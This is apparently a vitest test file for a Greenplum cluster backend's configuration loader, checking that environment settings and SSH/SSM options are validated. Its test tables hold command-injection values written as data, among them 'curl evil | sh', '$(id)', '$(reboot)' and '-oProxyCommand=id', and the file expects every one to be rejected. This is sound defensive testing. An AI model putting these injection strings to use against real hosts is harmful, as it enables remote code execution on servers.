import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { SSMClient } from '@aws-sdk/client-ssm';
import { describe, expect, it } from 'vitest';
import { ValidationError } from '#domain/errors.ts';
import {
  clusterBackendFromEnv,
  coordinatorSettingsFromEnv,
  greenplumOverShell,
} from '#cluster/backend.ts';
import { GreenplumClusterOperations } from '#cluster/greenplum/greenplum-cluster-operations.ts';

const doc = DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' }));
const tables = { eventLog: 'e', configuration: 'c', control: 'k' } as never;

describe('coordinatorSettingsFromEnv', () => {
  it("defaults to the seed's installation, gpadmin and port 5432", () => {
    expect(coordinatorSettingsFromEnv({})).toEqual({
      gphome: '/usr/lib/gpdb',
      coordinatorDataDirectory: '/data1/master/gpseg-1',
      adminUser: 'gpadmin',
      port: 5432,
    });
    expect(
      coordinatorSettingsFromEnv({
        GPHOME: '/usr/local/cloudberry',
        COORDINATOR_DATA_DIRECTORY: '/data/coordinator/gpseg-1',
        GP_ADMIN_USER: 'cbadmin',
        COORDINATOR_PORT: '7000',
      }),
    ).toEqual({
      gphome: '/usr/local/cloudberry',
      coordinatorDataDirectory: '/data/coordinator/gpseg-1',
      adminUser: 'cbadmin',
      port: 7000,
    });
  });

  it.each([
    ['GPHOME', '/usr/lib/gpdb; curl evil | sh'],
    ['GPHOME', '/usr/$(id)'],
    ['COORDINATOR_DATA_DIRECTORY', "/data1/'x"],
    ['COORDINATOR_DATA_DIRECTORY', `/${'d'.repeat(5000)}`],
    ['GP_ADMIN_USER', 'gpadmin\nroot'],
    ['GP_ADMIN_USER', 'root; id'],
    ['COORDINATOR_PORT', '5432; id'],
    ['COORDINATOR_PORT', '70000'],
  ])('refuses %s=%j, naming the setting', (name, value) => {
    const read = () => coordinatorSettingsFromEnv({ [name]: value });
    expect(read).toThrow(ValidationError);
    expect(read).toThrow(new RegExp(`^${name}: `));
  });
});

describe('clusterBackendFromEnv', () => {
  it('drives the served cluster through SSM with the generic adapter', () => {
    const backend = clusterBackendFromEnv(
      doc,
      tables,
      {
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
      },
      Date.now,
      new SSMClient({ region: 'eu-west-1' }),
    );
    expect(backend('prod')).toBeInstanceOf(GreenplumClusterOperations);
    expect(() => backend('other')).toThrow(/not served by this deployment/);
  });

  it('refuses a Run Command output bucket that is not an S3 bucket name, before any call', () => {
    const build = () =>
      clusterBackendFromEnv(
        doc,
        tables,
        {
          CLUSTER_BACKEND: 'ssm',
          CLUSTER_ID: 'prod',
          COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
          RUN_COMMAND_OUTPUT_BUCKET: 'Output/../other-bucket',
        },
        Date.now,
        new SSMClient({ region: 'eu-west-1' }),
      );
    expect(build).toThrow(ValidationError);
    expect(build).toThrow(/output\.bucket.*must be an S3 bucket name/);
  });

  it.each([
    [{ CLUSTER_BACKEND: 'local', CLUSTER_ID: 'gp6' }, 'this host'],
    [{ CLUSTER_BACKEND: 'ssh', CLUSTER_ID: 'gp6', COORDINATOR_HOST: 'mdw' }, 'mdw'],
  ])('drives the served cluster through a shell: %j', (env, where) => {
    const backend = clusterBackendFromEnv(doc, tables, env);
    expect(backend('gp6')).toBeInstanceOf(GreenplumClusterOperations);
    expect(backend('gp6')).toBe(backend('gp6'));
    expect(() => backend('other')).toThrow(
      `cluster other is not served by this deployment (it serves gp6 on ${where})`,
    );
  });

  it.each([
    [{ CLUSTER_BACKEND: 'local' }, /CLUSTER_BACKEND=local needs CLUSTER_ID/],
    [{ CLUSTER_BACKEND: 'ssh', CLUSTER_ID: 'gp6' }, /--transport ssh needs the coordinator host/],
    [{ CLUSTER_BACKEND: 'ssm', CLUSTER_ID: 'gp6' }, /needs COORDINATOR_INSTANCE_ID and CLUSTER_ID/],
    [{ CLUSTER_BACKEND: 'telnet', CLUSTER_ID: 'gp6' }, /expected simulated, ssm, local or ssh/],
  ])('refuses an incomplete or unknown backend: %j', (env, message) => {
    expect(() => clusterBackendFromEnv(doc, tables, env)).toThrow(message);
  });

  it('refuses a hostile setting before anything runs', () => {
    expect(() =>
      clusterBackendFromEnv(doc, tables, {
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
        GP_ADMIN_USER: '$(reboot)',
      }),
    ).toThrow(/^GP_ADMIN_USER: /);
    expect(() =>
      clusterBackendFromEnv(doc, tables, {
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-x; id',
      }),
    ).toThrow(ValidationError);
  });
});

describe('greenplumOverShell', () => {
  it('builds the adapter for --transport local and --transport ssh --coordinator HOST', () => {
    expect(greenplumOverShell({ transport: 'local' })).toBeInstanceOf(GreenplumClusterOperations);
    expect(greenplumOverShell({ transport: 'ssh', coordinator: 'mdw' })).toBeInstanceOf(
      GreenplumClusterOperations,
    );
  });

  it.each([
    [{ transport: 'ssh' as const }, /--transport ssh needs the coordinator host/],
    [{ transport: 'local' as const, coordinator: 'mdw' }, /only --transport ssh/],
    [{ transport: 'ssh' as const, coordinator: '-oProxyCommand=id' }, /^coordinator: /],
    [{ transport: 'ssh' as const, coordinator: 'mdw', settings: { port: 0 } }, /^port: /],
  ])('refuses %j', (options, message) => {
    expect(() => greenplumOverShell(options)).toThrow(message);
  });
});
